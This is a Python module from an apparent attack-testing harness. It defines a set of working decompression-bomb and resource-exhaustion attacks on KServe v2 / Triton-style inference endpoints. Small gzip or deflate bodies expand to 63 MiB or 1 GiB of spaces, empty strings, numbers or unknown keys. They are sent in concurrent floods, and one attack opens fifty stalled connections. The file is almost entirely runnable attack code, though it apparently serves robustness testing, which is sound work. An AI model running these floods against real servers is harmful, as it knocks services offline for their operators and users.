"""Bodies that are small on the wire and large once decoded."""

import asyncio
import functools
import gzip
import json
import zlib

from attacks import http1
from attacks.registry import attack

MOST = 63 * 2**20
OPEN = b'{"inputs":[{"name":"text","shape":[%d],"datatype":"BYTES","data":['
CLOSE = b"]}]}"


@functools.cache
def gzipped(unit, total, start=b"", end=b""):
    """`start`, as many of `unit` as fit into `total` bytes, and `end`, compressed."""
    compressor = zlib.compressobj(9, wbits=31)
    parts, block = [compressor.compress(start)], unit * (2**20 // len(unit))
    for _ in range(total // len(block)):
        parts.append(compressor.compress(block))
    parts += [compressor.compress(end), compressor.flush()]
    return b"".join(parts)


GZIP = ("Content-Encoding", "gzip")


async def flood(target, request, count=4):
    await target.together(count, lambda _: http1.repeat(target, request))


@attack(clients=4, in_short=False)
async def gzip_of_spaces(target):
    """65 kB of gzip that are 63 MiB of spaces."""
    await flood(target, http1.infer("langid", gzipped(b" ", MOST), [GZIP]))


@attack(clients=4)
async def gzip_without_bound(target):
    """A megabyte of gzip that would be a gigabyte."""
    await flood(target, http1.infer("langid", gzipped(b"\0", 2**30), [GZIP]))


@attack(clients=4, in_short=False)
async def deflate_of_spaces(target):
    """The same as zlib's own format, and twice encoded."""
    plain = zlib.compress(b" " * MOST, 9)
    twice = gzip.compress(gzipped(b" ", MOST))
    requests = [
        http1.infer("langid", plain, [("Content-Encoding", "deflate")]),
        http1.infer("langid", twice, [("Content-Encoding", "gzip, gzip")]),
    ]
    await target.together(4, lambda index: http1.repeat(target, requests[index % 2]))


@attack(clients=4)
async def gzip_of_empty_strings(target):
    """A list of 21 million empty strings as JSON."""
    body = gzipped(b'"",', MOST, OPEN % (MOST // 3), b'""' + CLOSE)
    await flood(target, http1.infer("langid", body, [GZIP]))


@attack(clients=4)
async def gzip_of_binary_empty_strings(target):
    """16 million empty strings as four bytes of length each."""
    count = MOST // 4
    start = json.dumps(
        {"inputs": [{"name": "text", "shape": [count], "datatype": "BYTES",
                     "parameters": {"binary_data_size": 4 * count}}]}
    ).encode()
    body = gzipped(b"\0\0\0\0", 4 * count, start)
    headers = [GZIP, ("Inference-Header-Content-Length", len(start))]
    await flood(target, http1.infer("langid", body, headers))


@attack(clients=4, in_short=False)
async def empty_strings(target):
    """Two million empty strings, not compressed."""
    count = 2_000_000
    start = json.dumps(
        {"inputs": [{"name": "text", "shape": [count], "datatype": "BYTES",
                     "parameters": {"binary_data_size": 4 * count}}]}
    ).encode()
    headers = [("Inference-Header-Content-Length", len(start))]
    await flood(target, http1.infer("langid", start + bytes(4 * count), headers))


@attack(clients=4, in_short=False)
async def gzip_of_numbers(target):
    """A list of 32 million numbers as JSON."""
    start = OPEN.replace(b"BYTES", b"INT64").replace(b"text", b"token") % (MOST // 2)
    body = gzipped(b"3,", MOST, start, b"3" + CLOSE)
    await flood(target, http1.infer("tokens", body, [GZIP]))


@attack(clients=4, in_short=False)
async def gzip_of_empty_lists(target):
    """A list of 21 million empty lists, where numbers should be."""
    body = gzipped(b"[],", MOST, OPEN.replace(b"BYTES", b"FP32") % (MOST // 3), b"[]" + CLOSE)
    await flood(target, http1.infer("langid", body, [GZIP]))


@attack(clients=4, in_short=False)
async def gzip_of_unknown_keys(target):
    """A million and a half inputs without a name, and parameters that nobody knows."""
    inputs = gzipped(b'{"name":"a","shape":[],"datatype":"FP32"},', MOST, b'{"inputs":[', b"{}]}")
    parameters = gzipped(b'"p":1,', MOST, b'{"inputs":[],"parameters":{', b'"p":1}}')
    requests = [http1.infer("langid", body, [GZIP]) for body in (inputs, parameters)]
    await target.together(4, lambda index: http1.repeat(target, requests[index % 2]))


@attack(clients=4, in_short=False)
async def gzip_to_generate(target):
    """The bomb at the other paths that take a body."""
    body = gzipped(b"a", MOST, b'{"text_input": "', b'"}')
    paths = ["/v2/models/g2p/generate", "/v2/models/g2p/generate_stream"]
    paths += ["/v2/models/none/infer", "/v2/none"]
    requests = [http1.post(path, body, [GZIP]) for path in paths]
    await target.together(4, lambda index: http1.repeat(target, requests[index]))


@attack(clients=50, in_short=False)
async def gzip_by_many(target):
    """Fifty clients with 63 MiB each in 65 kB, all but the last bytes, who then wait."""
    body = gzipped(b" ", MOST)

    async def client(_):
        connection = await target.socket()
        loop = asyncio.get_running_loop()
        start = http1.head("/v2/models/langid/infer", len(body), headers=[GZIP])
        try:
            await loop.sock_sendall(connection, start + body[:-4])
            await target.wait()
        finally:
            connection.close()

    await target.together(50, client)
